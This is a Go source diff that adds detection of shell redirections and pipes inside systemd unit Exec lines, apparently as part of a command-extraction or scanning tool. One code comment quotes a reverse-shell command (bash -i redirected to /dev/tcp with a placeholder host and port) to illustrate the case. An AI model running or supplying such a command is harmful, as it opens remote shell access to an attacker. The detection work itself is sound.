@@ -437,6 +437,13 @@ func commandsOf(f format, text []byte) []cmdLine {
 		for _, m := range systemdExec.FindAllStringSubmatchIndex(s, -1) {
 			argv := systemdWords(strings.TrimLeft(s[m[6]:m[7]], "@-:+!|"), env)
 			if len(argv) > 0 {
+				if shellOperands(argv) {
+					// ExecStart=/bin/bash -i >& /dev/tcp/H/P 0>&1: systemd hands the shell
+					// ">&" and "0>&1" as words, but the unit's author meant the redirections
+					// and pipes of a shell command line; it is read as what it was written to be.
+					add(strings.Join(argv, " "), m[0])
+					continue
+				}
 				add(shellJoin(argv), m[0])
 			}
 		}
@@ -559,6 +566,30 @@ func sniffLangs(g *grams, text []byte) []string {
 		}
 	}
 	return out
+}
+
+// unitShells are the shells a unit's Exec line may start without sh -c.
+var unitShells = map[string]bool{"sh": true, "bash": true, "dash": true, "zsh": true, "ksh": true, "mksh": true, "ash": true, "busybox": true}
+
+// shellOperands reports an Exec line's words that start a shell with no -c (or a script) and
+// hand it redirections, pipes or command separators as words of their own: what a shell
+// command line holds, written where no shell reads it.
+func shellOperands(argv []string) bool {
+	if !unitShells[path.Base(argv[0])] {
+		return false
+	}
+	for _, w := range argv[1:] {
+		if w == "-c" || strings.HasPrefix(w, "-") && !strings.HasPrefix(w, "--") && strings.Contains(w, "c") {
+			return false // sh -c CODE is read as the code it runs
+		}
+		switch {
+		case w == "|" || w == "||" || w == "&&" || w == ";" || w == "&" || w == "|&",
+			strings.ContainsAny(w, "<>") && strings.Trim(w, "0123456789&<>-") == "", // >, >>, >&, 0>&1, 2>&1, &>
+			(strings.HasPrefix(w, ">") || strings.HasPrefix(w, "<")) && strings.Contains(w, "/dev/"):
+			return true
+		}
+	}
+	return false
 }
 
 // systemdWords splits a unit's command line into words the way systemd does: double and
